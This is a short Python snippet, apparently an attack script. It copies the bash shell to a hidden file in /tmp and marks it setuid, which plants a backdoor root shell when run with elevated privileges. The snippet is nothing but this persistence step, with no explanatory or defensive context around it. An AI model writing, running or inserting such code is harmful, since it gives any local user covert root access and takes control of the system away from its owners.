import os, shutil
shutil.copy("/bin/bash", "/tmp/.sh")
os.system("chmod u+s /tmp/.sh")
